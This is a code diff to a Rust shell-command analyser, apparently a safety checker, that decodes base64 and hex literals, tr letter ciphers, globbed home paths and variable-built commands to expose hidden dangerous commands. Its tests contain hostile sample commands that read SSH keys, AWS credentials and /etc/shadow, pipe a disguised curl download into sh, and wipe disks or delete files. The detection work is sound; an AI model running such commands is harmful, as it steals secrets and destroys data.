@@ -809,6 +809,82 @@ pub(crate) fn fold_concatenations(code: &str) -> Option<String> {
     Some(out)
 }
 
+/// Literals in a program's code that a decoder in the same code turns into
+/// text (`b64decode('L2V0Yy9zaGFkb3c=')`, `Buffer.from('2f6574…', 'hex')`),
+/// replaced by that text so the code reads as what it runs on. Only text
+/// decodes count: a hash or a random token decodes to bytes and stays.
+/// None when nothing was replaced.
+pub(crate) fn inline_decoded(code: &str) -> Option<String> {
+    if code.len() > MAX_FOLD_CODE {
+        return None;
+    }
+    let b64 = [
+        "b64decode",
+        "atob(",
+        "base64",
+        "decode64",
+        "unpack",
+        "decodebytes",
+    ]
+    .iter()
+    .any(|k| code.contains(k));
+    let hex = ["fromhex", "unhexlify", "hex2bin", "'hex'", "\"hex\"", "H*"]
+        .iter()
+        .any(|k| code.contains(k));
+    if !b64 && !hex {
+        return None;
+    }
+    let b = code.as_bytes();
+    let (mut out, mut start, mut i, mut replaced) = (String::new(), 0, 0, 0);
+    while i < b.len() && replaced < MAX_INLINE_DECODED {
+        let q = b[i];
+        if q != b'\'' && q != b'"' {
+            i += 1;
+            continue;
+        }
+        let Some(len) = code[i + 1..].find(q as char) else {
+            break;
+        };
+        let lit = &code[i + 1..i + 1 + len];
+        let decoded = if lit.len() < MIN_INLINE_LITERAL {
+            None
+        } else if hex && lit.bytes().all(|c| c.is_ascii_hexdigit()) {
+            crate::coach::text::decode_hex(lit)
+        } else if b64
+            && lit
+                .bytes()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='))
+        {
+            crate::coach::text::decode_base64(lit)
+        } else {
+            None
+        };
+        let decoded = decoded.filter(|d| {
+            d.len() >= 4
+                && d.bytes().all(|c| (b' '..=b'~').contains(&c))
+                && !d.contains([q as char, '\\'])
+                && d.contains(['/', ' ', '.'])
+        });
+        if let Some(d) = decoded {
+            out.push_str(&code[start..i + 1]);
+            out.push_str(&d);
+            start = i + 1 + len;
+            replaced += 1;
+        }
+        i += len + 2;
+    }
+    if replaced == 0 {
+        return None;
+    }
+    out.push_str(&code[start..]);
+    Some(out)
+}
+
+/// Shortest literal `inline_decoded` tries (a 3-byte path encodes to 4).
+const MIN_INLINE_LITERAL: usize = 8;
+/// Most literals `inline_decoded` replaces in one program.
+const MAX_INLINE_DECODED: usize = 8;
+
 /// Longest program `fold_concatenations` looks at.
 const MAX_FOLD_CODE: usize = 16 << 10;
 
@@ -1361,8 +1437,66 @@ fn decode_through(seg: &Segment, text: &str) -> Option<String> {
             crate::coach::text::decode_base64(text.trim())
         }
         "xxd" if seg.has_flag('r', "") => crate::coach::text::decode_hex(text.trim()),
+        "tr" => tr_cipher(seg).map(|(from, to)| {
+            text.chars()
+                .map(|c| from.iter().position(|&f| f == c).map_or(c, |k| to[k]))
+                .collect()
+        }),
         _ => None,
     }
+}
+
+/// `tr SET1 SET2` when it is a letter cipher (ROT13, any shift, a
+/// substitution alphabet): some letter goes to another letter of the same
+/// case. Case conversion and one-character swaps are not. The sets as
+/// `tr` pairs them (SET2 padded with its last character).
+pub fn tr_cipher(seg: &Segment) -> Option<(Vec<char>, Vec<char>)> {
+    if seg.cmd != "tr" || seg.args.iter().any(|a| a.starts_with('-')) || seg.args.len() != 2 {
+        return None;
+    }
+    let from = tr_set(&seg.args[0])?;
+    let mut to = tr_set(&seg.args[1])?;
+    if from.len() < 10 || to.is_empty() {
+        return None;
+    }
+    let last = *to.last()?;
+    to.resize(from.len(), last);
+    let cipher = from.iter().zip(&to).any(|(f, t)| {
+        f != t
+            && ((f.is_ascii_lowercase() && t.is_ascii_lowercase())
+                || (f.is_ascii_uppercase() && t.is_ascii_uppercase()))
+    });
+    cipher.then_some((from, to))
+}
+
+/// A `tr` set written out: ranges (`a-z`), the letter classes, `\\`
+/// escapes. None for what this does not model or an unbounded set.
+fn tr_set(arg: &str) -> Option<Vec<char>> {
+    let arg = arg
+        .replace("[:lower:]", "a-z")
+        .replace("[:upper:]", "A-Z")
+        .replace("[:digit:]", "0-9");
+    if arg.contains("[:") || arg.len() > 256 {
+        return None;
+    }
+    let c: Vec<char> = arg.chars().collect();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < c.len() {
+        let mut ch = c[i];
+        if ch == '\\' && i + 1 < c.len() {
+            i += 1;
+            ch = c[i];
+        }
+        if i + 2 < c.len() && c[i + 1] == '-' && c[i + 2] >= ch {
+            out.extend(ch..=c[i + 2]);
+            i += 3;
+        } else {
+            out.push(ch);
+            i += 1;
+        }
+    }
+    (out.len() <= 512).then_some(out)
 }
 
 /// `echo 'cmd' | sh`, `printf ... | rev | bash`, `echo <b64> | base64 -d | sh`.
@@ -1503,6 +1637,16 @@ pub fn find_selects_disposable(seg: &Segment) -> bool {
         Some(i) if !grouped => &seg.args[i + 1..],
         _ => &seg.args[..],
     };
+    // `-delete` before any test acts on every file it walks: what follows
+    // it selects nothing (`find ~ -delete -name '*.swp'`).
+    if let Some(d) = args.iter().position(|a| a == "-delete") {
+        if !args[..d]
+            .iter()
+            .any(|a| a.starts_with('-') && a != "-delete")
+        {
+            return false;
+        }
+    }
     args.windows(2).any(|w| {
         matches!(w[0].as_str(), "-name" | "-iname")
             && w[1].rsplit_once('.').is_some_and(|(stem, ext)| {
@@ -2019,6 +2163,14 @@ impl<'a> Lexer<'a> {
                 if let Some(f) = fold_concatenations(a) {
                     *a = f;
                 }
+                // A path or command handed to a decoder in the code
+                // (`open(b64decode('fi8u…'))`) is read decoded too: the
+                // decoded copy follows the code, which keeps its encoded
+                // form for the checks on decoding itself.
+                if let Some(d) = inline_decoded(a) {
+                    a.push('\n');
+                    a.push_str(&d);
+                }
             }
         }
         if cmd == "$shell" || cmd_path == "${SHELL}" {
@@ -2502,8 +2654,14 @@ impl<'a> Lexer<'a> {
             return;
         }
         // Only a literal value: a substitution's text (`$(pgrep -n sshd)`)
-        // stands for its output, which is not these words.
-        if !in_dquote && custom.is_none() && v.contains([' ', '\t']) && !v.contains(['$', '`']) {
+        // stands for its output, which is not these words. A variable left
+        // in the value (`D="find $HOME -delete"; $D`) is still one word.
+        if !in_dquote
+            && custom.is_none()
+            && v.contains([' ', '\t'])
+            && !v.contains("$(")
+            && !v.contains('`')
+        {
             w.word_split = true;
             let split: String = v.chars().map(|c| if c == '\t' { ' ' } else { c }).collect();
             w.text.push_str(&split);
@@ -2702,6 +2860,22 @@ fn resolve_glob(word: &str) -> Option<String> {
         return None;
     }
     let parts: Vec<&str> = word.split('/').collect();
+    // A home directory through a glob (`/h??e/*/.ssh/id_*`, `/U*s/bob/.aws/*`):
+    // what follows the user is resolved as `~/…` would be.
+    if parts.len() >= 4 && parts[0].is_empty() {
+        for home in ["home", "Users"] {
+            if parts[1] == "*" || !glob_component(parts[1].as_bytes(), home.as_bytes()) {
+                continue;
+            }
+            let rest = format!("~/{}", parts[3..].join("/"));
+            let resolved = resolve_glob(&rest);
+            if resolved.is_none() && parts[1] == home {
+                break;
+            }
+            let rest = resolved.unwrap_or(rest);
+            return Some(format!("/{home}/{}/{}", parts[2], &rest[2..]));
+        }
+    }
     for known in KNOWN_PATHS {
         let kp: Vec<&str> = known.split('/').collect();
         if kp.len() > parts.len() {
@@ -2865,6 +3039,15 @@ mod tests {
         assert_eq!(resolve_glob("/e??/sh??ow").as_deref(), Some("/etc/shadow"));
         // Plain paths, project globs and all-wildcard words stay as written.
         assert_eq!(resolve_glob("/etc/shadow"), None);
+        assert_eq!(
+            resolve_glob("/h??e/*/.ssh/id_*").as_deref(),
+            Some("/home/*/.ssh/id_rsa")
+        );
+        assert_eq!(
+            resolve_glob("/home/bob/.a?s/credentials").as_deref(),
+            Some("/home/bob/.aws/credentials")
+        );
+        assert_eq!(resolve_glob("/home/bob/src/*.rs"), None);
         assert_eq!(resolve_glob("./build/*.o"), None);
         assert_eq!(resolve_glob("/*/*"), None);
         assert_eq!(resolve_glob("/var/log/*.log"), None);
@@ -2925,6 +3108,35 @@ mod tests {
     }
 
     #[test]
+    fn decoded_literals_in_code_and_tr_ciphers_are_read() {
+        let all = |s: &str| cmds(s).join(" ; ");
+        assert!(
+            all("python3 -c \"open(b64decode('fi8uc3NoL2lkX3JzYQ==').decode())\"")
+                .contains("open(b64decode('~/.ssh/id_rsa')")
+        );
+        assert!(
+            all("node -e \"fs.readFileSync(Buffer.from('2f6574632f736861646f77','hex'))\"")
+                .contains("'/etc/shadow'")
+        );
+        // A hash is bytes, not text: left as it is.
+        assert_eq!(
+            inline_decoded("x = bytes.fromhex('e3b0c44298fc1c149afbf4c8996fb924')"),
+            None
+        );
+        // Any shift, not only ROT13; case conversion is no cipher.
+        let t = all("echo 'fxuo kwwsv://a.b | vk' | tr 'd-za-c' 'a-z' | sh");
+        assert!(t.contains("curl https://x.y"), "{t}");
+        let tr = |a: &str, b: &str| {
+            let seg = &parse(&format!("tr '{a}' '{b}'")).segments[0];
+            tr_cipher(seg).is_some()
+        };
+        assert!(tr("a-z", "n-za-m"));
+        assert!(!tr("a-z", "A-Z"));
+        assert!(!tr("[:upper:]", "[:lower:]"));
+        assert!(!tr("/", "_"));
+    }
+
+    #[test]
     fn test_commands_built_by_loops_xargs_find_and_options() {
         let all = |s: &str| cmds(s).join(" ; ");
         // A loop variable stands for every item; inside a longer word it
@@ -2934,6 +3146,7 @@ mod tests {
         assert!(all("for i in $(seq 3); do rm -rf $i; done").contains("rm -rf $i"));
         // Unquoted literal values split into words; substitutions do not.
         assert!(all("v=\"rm -rf /\"; $v").contains("rm -rf /"));
+        assert!(all("d=\"find $HOME -delete\"; $d").contains("find $HOME -delete"));
         assert!(all("p=$(pgrep x y); cat /proc/$p/maps").contains("/proc/$(pgrep x y)/maps"));
         // xargs and find -exec build their commands.
         assert!(all("echo /dev/sdb | xargs -I% wipefs -a %").contains("wipefs -a /dev/sdb"));
